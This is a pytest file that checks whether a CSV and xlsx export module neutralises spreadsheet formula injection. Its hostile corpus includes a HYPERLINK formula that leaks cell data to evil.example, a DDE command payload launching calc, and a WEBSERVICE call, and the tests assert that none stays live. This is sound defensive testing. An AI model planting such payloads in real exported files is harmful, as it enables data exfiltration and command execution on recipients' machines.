"""Formula injection in downloads (issue 12): imported text that starts like a formula or holds
a URL must reach the spreadsheet as text. Counts live formula cells, auto-links and unneutralised
CSV fields over a hostile corpus; the goal is 0 of each."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pandas as pd

from ui.export import FORMULA_LEADS, to_csv, to_xlsx

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(1,1)", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"http://evil.example\")", "http://evil.example/a",
    "https://evil.example/b", "mailto:x@evil.example", "＝1+1", " =1+1", "-", "+", "@", "=",
]
HARMLESS = ["-12.5", "+3", "赫山区", "市水利局", "2026-11-23"]


def hostile_frame() -> pd.DataFrame:
    """Text where an import puts it: description, unit, street, community, category; plus numbers."""
    values = HOSTILE_TEXT + HARMLESS
    n = len(values)
    return pd.DataFrame({"问题描述": values, "责任单位": values[::-1], "街道": values, "社区": values[::-1],
                         "小类": values, "件数": range(n), "按期结案率": [0.5] * n})


def live_formulas_and_links(data: bytes) -> tuple[int, int]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
    return len(re.findall(r"<f[ >]", xml)), len(re.findall(r"<hyperlink ", xml))


def unneutralised_fields(data: bytes) -> int:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return sum(1 for row in rows for field in row
               if field.startswith(FORMULA_LEADS) and not re.fullmatch(r"[-+]?[0-9.]+", field))


def test_xlsx_writes_hostile_text_as_text():
    frame = hostile_frame()
    data = to_xlsx(frame, "案件", {"件数": "count", "按期结案率": "rate"})
    formulas, links = live_formulas_and_links(data)
    print(f"xlsx: {frame.shape[0] * 5} hostile or plain text cells, {formulas} live formula cells, {links} auto-links")
    assert (formulas, links) == (0, 0)
    # the text itself arrives unchanged
    import openpyxl
    ws = openpyxl.load_workbook(io.BytesIO(data))["案件"]
    assert ws["A2"].value == HOSTILE_TEXT[0] and ws["A2"].data_type == "s"


def test_csv_neutralises_leading_formula_characters():
    frame = hostile_frame()
    data = to_csv(frame)
    bad = unneutralised_fields(data)
    print(f"csv: {frame.shape[0] * 5} text fields, {bad} unneutralised formula fields")
    assert bad == 0
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + HOSTILE_TEXT[0]
    # plain numbers written as text and ordinary words keep their form
    assert [r[0] for r in rows[1 + len(HOSTILE_TEXT):]] == HARMLESS


def test_a_sheet_name_from_data_cannot_break_the_workbook():
    data = to_xlsx(pd.DataFrame({"a": [1]}), "第[1]批:*?/\\明细")
    import openpyxl
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["第_1_批_____明细"]
